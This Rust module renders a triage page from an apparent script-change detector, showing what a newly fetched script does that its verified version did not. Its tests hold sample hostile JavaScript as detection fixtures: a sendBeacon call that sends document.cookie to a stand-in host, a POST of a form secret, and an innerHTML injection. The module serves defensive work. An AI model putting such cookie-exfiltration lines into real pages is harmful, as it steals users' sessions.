//! What an item newly does, as its page shows it: facts in front, places beside them, and the difference last.

mod contents;
mod difference;
mod summary;
mod urgency;

use jiff::Timestamp;
use pinfold_triage::{
    Capability, Change, Elsewhere, Fact, Findings, Function, FunctionChange, FunctionCounts, Group, Host,
    Loss, Measure, Novelty, OtherOrigin, Site,
};

use self::contents::Part;
use self::difference::Shown;
pub(super) use self::difference::{Difference, Names, Piece, query};
use self::summary::Point;
pub(super) use self::summary::Weight;
pub use self::urgency::{Glance, Urgency};
use super::evidence::{Triage, Verified};
use super::words::{ago, capitalised, counted, minute, size};
use crate::text::Text;

/// Functions of each kind that are listed.
const FUNCTIONS: usize = 20;
/// Literals that are listed.
const LITERALS: usize = 50;
/// Hosts that are listed.
const HOSTS: usize = 60;

/// All of it.
#[derive(Default)]
pub(super) struct Triaged {
    /// It is still being worked out.
    pub(super) is_running: bool,
    /// What is known meanwhile, in one line.
    pub(super) so_far: Option<Text>,
    /// Why nothing is said.
    pub(super) not_done: Option<Text>,
    /// Why there is no more.
    pub(super) not_analysed: Option<Text>,
    pub(super) against: Option<Against>,
    /// What kind of change it is.
    pub(super) headline: String,
    /// How much of a change it is.
    pub(super) amount: Vec<String>,
    pub(super) summary: Vec<Point>,
    /// That nothing new was found, and what that does not mean.
    pub(super) nothing_new: Option<String>,
    /// Comments, white space or notation alone differ.
    pub(super) is_trivia: bool,
    pub(super) domains: Vec<Domain>,
    pub(super) more_hosts: usize,
    pub(super) groups: Vec<Grouped>,
    pub(super) losses: Vec<LossRow>,
    pub(super) literals: Vec<LiteralRow>,
    pub(super) more_literals: usize,
    pub(super) functions: Vec<Functions>,
    /// Why no functions are listed.
    pub(super) rebuilt: Option<String>,
    /// How it is harder to read than what was verified.
    pub(super) measures: Vec<String>,
    /// What a program or an archive is and holds.
    pub(super) contents: Vec<Part>,
    pub(super) difference: Difference,
}

/// What it was compared with.
pub(super) struct Against {
    pub(super) size: String,
    pub(super) when: String,
    pub(super) learned: bool,
}

/// A line of the formatted new version, and a link to it, where a page has it.
#[derive(Clone)]
pub(super) struct Place {
    pub(super) line: usize,
    pub(super) link: Option<String>,
}

/// Hosts of one registered name.
pub(super) struct Domain {
    pub(super) name: Text,
    pub(super) hosts: Vec<HostRow>,
}

pub(super) struct HostRow {
    pub(super) host: Text,
    pub(super) urls: Vec<Text>,
    pub(super) place: Option<Place>,
    pub(super) is_hidden: bool,
    pub(super) imitates: Option<Text>,
}

/// Facts of one group.
pub(super) struct Grouped {
    pub(super) name: String,
    pub(super) facts: Vec<FactRow>,
}

pub(super) struct FactRow {
    pub(super) text: &'static str,
    pub(super) code: &'static str,
    pub(super) is_new: bool,
    /// It is given something else than before.
    pub(super) is_other: bool,
    /// Places before, and now.
    pub(super) counts: String,
    pub(super) sites: Vec<SiteRow>,
    pub(super) more: usize,
    /// Places of the verified version that have no equal now.
    pub(super) gone: Vec<GoneRow>,
}

pub(super) struct SiteRow {
    pub(super) place: Place,
    pub(super) excerpt: Text,
    pub(super) means: Option<Text>,
    pub(super) in_string: bool,
    /// Where it differs from what stood there, if it looks the same.
    pub(super) differs: Option<(Place, Text)>,
    /// What its variables come from, where that alone is not what it was.
    pub(super) origins: Vec<OriginRow>,
    pub(super) are_more_origins: bool,
    /// Whether they are those of the place above: they are shown there.
    pub(super) has_origins_above: bool,
}

/// What a variable comes from.
pub(super) struct OriginRow {
    pub(super) name: Text,
    /// What that was, by a line of the verified version.
    pub(super) was: Option<(usize, Text)>,
    pub(super) is: Option<(Place, Text)>,
}

/// A place of the verified version.
pub(super) struct GoneRow {
    pub(super) line: usize,
    pub(super) excerpt: Text,
    /// Where it differs from what stands there now, if it looks the same.
    pub(super) differs: Option<(usize, Text)>,
}

/// A guard that is gone, or another.
pub(super) struct LossRow {
    pub(super) text: String,
    /// Places of the verified version.
    pub(super) gone: Vec<GoneRow>,
    pub(super) others: Vec<SiteRow>,
}

pub(super) struct LiteralRow {
    pub(super) place: Place,
    pub(super) old: Text,
    pub(super) new: Text,
}

/// Functions that changed in one way.
pub(super) struct Functions {
    pub(super) how: &'static str,
    pub(super) count: usize,
    /// Those with a name that tells something.
    pub(super) rows: Vec<(Text, Place)>,
    /// Where those without one are; of what is gone nobody looks for them.
    pub(super) unnamed: Vec<Place>,
    /// How many of these there are, where it is not said where.
    pub(super) nameless: usize,
    pub(super) more: usize,
}

impl Triaged {
    pub(super) fn of(triage: &Triage, now: Timestamp) -> Self {
        match triage {
            Triage::Done { verified, findings } => Self::found(verified.as_ref(), findings, now),
            Triage::Running(so_far) => {
                let so_far = so_far.as_ref().map(|glance| Text::of(&capitalised(&glance.line)));
                Self { is_running: true, so_far, ..Self::default() }
            }
            Triage::NotDone(why) => Self { not_done: Some(Text::of(why)), ..Self::default() },
        }
    }

    fn found(verified: Option<&Verified>, findings: &Findings, now: Timestamp) -> Self {
        let difference = Difference::of(findings);
        let shown = difference.shown(&findings.diff);
        let mut points = summary::points(findings, &shown);
        Self {
            is_running: false,
            so_far: None,
            not_done: None,
            not_analysed: findings.not_analysed.as_ref().map(|why| Text::of(&why.text())),
            against: verified.map(|verified| Against {
                size: size(verified.len),
                when: format!("{} UTC, {}", minute(verified.at), ago(verified.at, now)),
                learned: verified.learned,
            }),
            headline: headline(findings, verified.is_some()),
            amount: amount(findings, verified.is_some()),
            nothing_new: nothing_new(findings, &mut points),
            summary: points,
            is_trivia: findings.change == Change::Trivia,
            domains: domains(&findings.hosts, &shown),
            more_hosts: findings.hosts.len().saturating_sub(HOSTS),
            groups: groups(&findings.facts, verified.is_some(), &shown),
            losses: findings.losses.iter().map(|loss| loss_row(loss, &shown)).collect(),
            literals: literals(findings, &shown),
            more_literals: findings.literals.len().saturating_sub(LITERALS),
            functions: functions(findings, &shown),
            rebuilt: findings.function_counts.rebuilt(),
            measures: findings.measures.iter().filter_map(Measure::text).collect(),
            contents: contents::parts(findings.contents.as_deref()),
            difference,
        }
    }

    /// What the details are: where nothing is newly done, they do not say so.
    pub(super) fn details_are(&self) -> &'static str {
        let is_news = !(self.domains.is_empty() && self.groups.is_empty() && self.losses.is_empty());
        match &self.against {
            None => "All that it does",
            Some(_) if is_news => "What it newly does",
            Some(_) => "What changed",
        }
    }

    pub(super) fn has_details(&self) -> bool {
        !(self.domains.is_empty()
            && self.groups.is_empty()
            && self.losses.is_empty()
            && self.literals.is_empty()
            && self.functions.is_empty()
            && self.rebuilt.is_none()
            && self.contents.is_empty()
            && self.measures.is_empty())
    }
}

fn headline(findings: &Findings, is_compared: bool) -> String {
    let is_new = |fact: &Fact| fact.novelty() == Novelty::New;
    if is_compared && (!findings.hosts.is_empty() || findings.facts.iter().any(is_new)) {
        return "It does what it did not do before".to_owned();
    }
    if is_compared && !findings.losses.is_empty() {
        return "It lacks a guard that it had".to_owned();
    }
    match findings.change {
        Change::New => "No verified version of this URL is kept: this is all that it does".to_owned(),
        Change::Same
        | Change::Trivia
        | Change::Names
        | Change::Data
        | Change::Code
        | Change::Contents
        | Change::Unknown => capitalised(findings.change.text()),
    }
}

/// That nothing new was found, and what that does not mean, in place of the point that says the first alone.
fn nothing_new(findings: &Findings, points: &mut Vec<Point>) -> Option<String> {
    let nothing = summary::nothing(findings)?;
    let at = points.iter().position(|point| point.text == nothing)?;
    points.remove(at);
    Some(match findings.change {
        Change::Same | Change::Trivia | Change::Names => format!(
            "Nothing new was found: it {nothing}. That does not mean that it is harmless, only that it is as harmless as that one."
        ),
        Change::Data | Change::Code | Change::Contents | Change::Unknown => format!(
            "Nothing new was found: it {nothing}. That does not mean that it is harmless: code can do harm with what it could do \
             before. The changed lines below say what it does now."
        ),
        Change::New => format!(
            "Nothing was found: it {nothing}. That does not mean that it is harmless: nobody has verified what stood here before."
        ),
    })
}

const KINDS: [FunctionChange; 4] =
    [FunctionChange::Added, FunctionChange::Changed, FunctionChange::Removed, FunctionChange::Moved];

fn amount(findings: &Findings, is_compared: bool) -> Vec<String> {
    let diff = &findings.diff;
    let change = capitalised(findings.change.text());
    let mut amount = Vec::new();
    // Where something else is the headline.
    if is_compared && headline(findings, is_compared) != change {
        amount.push(change);
    }
    if diff.added + diff.removed == 0 {
        return amount;
    }
    amount.push(format!("{} added", counted(diff.added as u64, "line")));
    amount.push(format!("{} removed", counted(diff.removed as u64, "line")));
    let rebuilt = findings.function_counts.rebuilt();
    amount.extend(rebuilt.as_ref().map(|_| capitalised(FunctionCounts::REBUILT)));
    for how in KINDS {
        let count = findings.function_counts.of(how);
        if count > 0 && rebuilt.is_none() {
            amount.push(format!("{} {}", counted(count as u64, "function"), how.code()));
        }
    }
    amount
}

/// Each registered name once, in the order of the findings: hidden ones first.
fn domains(hosts: &[Host], shown: &Shown) -> Vec<Domain> {
    let mut domains: Vec<(&str, Domain)> = Vec::new();
    for host in hosts.iter().take(HOSTS) {
        let row = HostRow {
            host: Text::of(&host.host),
            urls: host.urls.iter().filter(|url| **url != host.host).map(|url| Text::of(url)).collect(),
            place: host.line.map(|line| shown.place(line)),
            is_hidden: host.hidden,
            imitates: host.imitates.as_deref().map(Text::of),
        };
        match domains.iter_mut().find(|(name, _)| *name == &*host.domain) {
            Some((_, domain)) => domain.hosts.push(row),
            None => domains.push((&host.domain, Domain { name: Text::of(&host.domain), hosts: vec![row] })),
        }
    }
    domains.into_iter().map(|(_, domain)| domain).collect()
}

fn groups(facts: &[Fact], is_compared: bool, shown: &Shown) -> Vec<Grouped> {
    let grouped = Group::ALL.into_iter().map(|group| Grouped {
        name: capitalised(group.text()),
        facts: facts
            .iter()
            .filter(|fact| fact.capability.group() == group)
            .map(|fact| fact_row(fact, is_compared, shown))
            .collect(),
    });
    grouped.filter(|group| !group.facts.is_empty()).collect()
}

fn fact_row(fact: &Fact, is_compared: bool, shown: &Shown) -> FactRow {
    let now = counted(fact.new as u64, "place");
    FactRow {
        text: fact.capability.text(),
        code: fact.capability.code(),
        is_new: is_compared && fact.novelty() == Novelty::New,
        is_other: fact.novelty() == Novelty::Other,
        counts: if is_compared && fact.reviewed > 0 { format!("{} → {now}", fact.reviewed) } else { now },
        sites: site_rows(&fact.sites, shown),
        more: fact.others.saturating_sub(fact.sites.len()),
        gone: gone(&fact.gone),
    }
}

fn gone(sites: &[Site]) -> Vec<GoneRow> {
    let row = |site: &Site| GoneRow {
        line: site.line,
        excerpt: Text::of_code(&site.excerpt),
        differs: site.differs.as_ref().map(|there| (there.line, Text::of_code(&there.excerpt))),
    };
    sites.iter().map(row).collect()
}

fn loss_row(loss: &Loss, shown: &Shown) -> LossRow {
    LossRow {
        text: loss.text(),
        gone: gone(&loss.gone),
        others: loss.others.iter().map(|site| site_row(site, shown)).collect(),
    }
}

fn site_rows(sites: &[Site], shown: &Shown) -> Vec<SiteRow> {
    let above = std::iter::once(None).chain(sites.iter().map(Some));
    let each = sites.iter().zip(above).map(|(site, above)| SiteRow {
        // Of more than is told it is not known whether it is the same.
        has_origins_above: !site.origins.is_empty()
            && !site.are_more_origins
            && above.is_some_and(|above| above.origins == site.origins),
        ..site_row(site, shown)
    });
    each.collect()
}

fn site_row(site: &Site, shown: &Shown) -> SiteRow {
    SiteRow {
        place: shown.place(site.line),
        excerpt: Text::of_code(&site.excerpt),
        means: site.means.as_deref().map(Text::of),
        in_string: site.in_string,
        differs: site.differs.as_ref().map(|there| (shown.place(there.line), Text::of_code(&there.excerpt))),
        origins: site.origins.iter().map(|origin| origin_row(origin, shown)).collect(),
        are_more_origins: site.are_more_origins,
        has_origins_above: false,
    }
}

fn origin_row(origin: &OtherOrigin, shown: &Shown) -> OriginRow {
    let code = |there: &Elsewhere| Text::of_code(&there.excerpt);
    OriginRow {
        name: Text::of_code(&origin.name),
        was: origin.old.as_ref().map(|was| (was.line, code(was))),
        is: origin.new.as_ref().map(|is| (shown.place(is.line), code(is))),
    }
}

fn literals(findings: &Findings, shown: &Shown) -> Vec<LiteralRow> {
    let row = |literal: &pinfold_triage::Literal| LiteralRow {
        place: shown.place(literal.line),
        old: Text::of_code(&literal.old),
        new: Text::of_code(&literal.new),
    };
    findings.literals.iter().take(LITERALS).map(row).collect()
}

fn functions(findings: &Findings, shown: &Shown) -> Vec<Functions> {
    let Findings { functions, function_counts: counts, .. } = findings;
    if counts.rebuilt().is_some() {
        return Vec::new();
    }
    let of_kind = KINDS.into_iter().map(|how| {
        let all: Vec<_> = functions.iter().filter(|function| function.how == how).collect();
        let place = |function: &Function| match how {
            // The line of one that is gone is one of the reviewed version.
            FunctionChange::Removed => Place { line: function.line, link: None },
            FunctionChange::Added | FunctionChange::Changed | FunctionChange::Moved => {
                shown.place(function.line)
            }
        };
        let (named, mut unnamed): (Vec<_>, Vec<_>) =
            all.into_iter().partition(|function| function.has_telling_name());
        // Those that have none at all push none out that has a short one.
        unnamed.sort_by_key(|function| !function.is_named());
        let rows: Vec<_> = named
            .iter()
            .take(FUNCTIONS)
            .map(|function| (Text::of(&function.name), place(function)))
            .collect();
        let (nameless, unnamed) = match how {
            FunctionChange::Removed => (unnamed.len(), Vec::new()),
            FunctionChange::Added | FunctionChange::Changed | FunctionChange::Moved => {
                (0, unnamed.iter().take(FUNCTIONS).map(|function| place(function)).collect())
            }
        };
        Functions {
            how: how.code(),
            count: counts.of(how),
            more: counts.of(how).saturating_sub(rows.len() + unnamed.len() + nameless),
            rows,
            unnamed,
            nameless,
        }
    });
    of_kind.filter(|functions| functions.count > 0).collect()
}

/// What is done where, in a few words: for marks beside lines.
fn marks(findings: &Findings) -> impl Iterator<Item = (usize, Capability)> {
    let sites = |fact: &Fact| {
        let capability = fact.capability;
        fact.sites.iter().map(move |site| (site.line, capability)).collect::<Vec<_>>()
    };
    findings.facts.iter().flat_map(sites)
}

#[cfg(test)]
mod tests {
    use pinfold_triage::{Limits, compare};

    use super::*;

    fn found(old: &str, new: &str) -> Triaged {
        let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
        let verified = Verified {
            digest: pinfold_policy::digest::BodyId([0; 32]),
            len: old.len() as u64,
            at: Timestamp::UNIX_EPOCH,
            learned: false,
        };
        Triaged::found(Some(&verified), &findings, Timestamp::UNIX_EPOCH)
    }

    #[test]
    fn where_nothing_new_was_found_a_sentence_says_so_and_what_that_does_not_mean() {
        for (old, new, said) in [
            ("f(1);", "f( 1 ); // one", "it does what the verified version does"),
            ("f(1);", "f(2);", "names no new host"),
            ("if (a > 1) f();", "if (a >= 1) f();", "names no new host"),
        ] {
            let quiet = found(old, new);
            let nothing = quiet.nothing_new.unwrap();
            assert!(
                nothing.contains(said) && nothing.contains("does not mean that it is harmless"),
                "{nothing}"
            );
            assert!(quiet.summary.is_empty(), "it is said once");
            assert_eq!(quiet.is_trivia, new.contains("//"), "{new}");
        }
        let loud = found("f(1);", "f(1); navigator.sendBeacon('https://a.test/', document.cookie)");
        assert!(loud.nothing_new.is_none() && !loud.summary.is_empty());
    }

    #[test]
    fn of_places_that_look_the_same_it_is_shown_where_they_differ() {
        let sent = |body: &str| format!("fetch('/a', {{ method: 'POST', body: form.{body} }})");
        let found = found(&sent("text"), &sent("secret"));
        let fact = &found.groups[0].facts[0];
        let (place, there) = fact.sites[0].differs.as_ref().unwrap();
        assert_eq!((place.link.as_deref(), there.to_string()), (Some("#n3"), "body: form.secret".to_owned()));
        let (line, was) = fact.gone[0].differs.as_ref().unwrap();
        assert_eq!((*line, was.to_string()), (3, "body: form.text".to_owned()));
    }

    #[test]
    fn of_code_that_stands_there_as_before_it_is_shown_once_which_origin_changed() {
        let script = |host: &str| format!("(() => {{ var u = {host}; el.innerHTML = u; }})()");
        let found = found(&script("page.text"), &script("page.evil"));
        let fact = &found.groups[0].facts[0];
        assert!(fact.gone.is_empty());
        let [site] = fact.sites.as_slice() else { panic!("{}", fact.sites.len()) };
        assert_eq!(site.excerpt.to_string(), "el.innerHTML = u;");
        let [origin] = site.origins.as_slice() else { panic!("{}", site.origins.len()) };
        assert_eq!(origin.name.to_string(), "u");
        let (line, was) = origin.was.as_ref().unwrap();
        assert_eq!((*line, was.to_string()), (2, "var u = page.text;".to_owned()));
        let (place, is) = origin.is.as_ref().unwrap();
        assert_eq!((place.link.as_deref(), is.to_string()), (Some("#n2"), "var u = page.evil;".to_owned()));
    }

    #[test]
    fn origins_of_several_places_below_each_other_are_shown_once() {
        let script =
            |value: &str| format!("(() => {{ var u = {value}; one.innerHTML = u; two.innerHTML = u; }})()");
        let found = found(&script("page.text"), &script("page.evil"));
        let shown = found.groups[0].facts[0].sites.iter().map(|site| site.has_origins_above);
        assert_eq!(shown.collect::<Vec<_>>(), [false, true]);
    }

    /// The last of them are not told, and could be others.
    #[test]
    fn more_origins_than_are_told_are_not_said_to_be_those_above() {
        let script = |value: &str| {
            let bound: String = (0..9).map(|at| format!("var u{at} = {value}.a{at}; ")).collect();
            let names: Vec<_> = (0..9).map(|at| format!("u{at}")).collect();
            let list = names.join(", ");
            format!("(() => {{ {bound} one.innerHTML = f({list}); two.innerHTML = f({list}); }})()")
        };
        let found = found(&script("page"), &script("other"));
        let shown = found.groups[0].facts[0].sites.iter();
        let shown: Vec<_> = shown.map(|site| (site.has_origins_above, site.are_more_origins)).collect();
        assert_eq!(shown, [(false, true), (false, true)]);
    }

    #[test]
    fn functions_without_a_name_push_none_out_that_has_a_short_one() {
        let crowd: String = (0..30).map(|at| format!("[(a) => a.crowd{at}];\n")).collect();
        let found = found("f(1);", &format!("f(1);\n{crowd}function t(a) {{ return take(a, 1) }}"));
        let added = found.functions.iter().find(|functions| functions.how == "added").unwrap();
        assert_eq!(added.count, 31);
        assert_eq!((added.unnamed.len(), added.unnamed[0].line), (FUNCTIONS, 32));
    }

    #[test]
    fn functions_that_a_minifier_has_named_are_counted_and_those_that_are_there_have_their_lines() {
        let old = "function e(a) { one(a) } function shown(a) { two(a) } f((b) => three(b)); g.fn.added = function () { four() }";
        let new =
            "function t(a, b) { five(b, a, 1) } function kept(a) { six(a, a, a) } f((c, d) => seven(d) + 8)";
        let found = found(old, new);
        let kind = |how: &str| {
            let of_kind = found.functions.iter().find(|functions| functions.how == how).unwrap();
            let names = of_kind.rows.iter().map(|(name, _)| name.to_string()).collect::<Vec<_>>();
            (names, of_kind.unnamed.len(), of_kind.nameless, of_kind.more)
        };
        assert_eq!(kind("removed"), (vec!["shown".to_owned(), "g.fn.added".to_owned()], 0, 1, 0));
        let (names, lines, nameless, more) = kind("added");
        assert_eq!((names, lines, nameless, more), (vec!["kept".to_owned()], 1, 0, 0));
    }
}
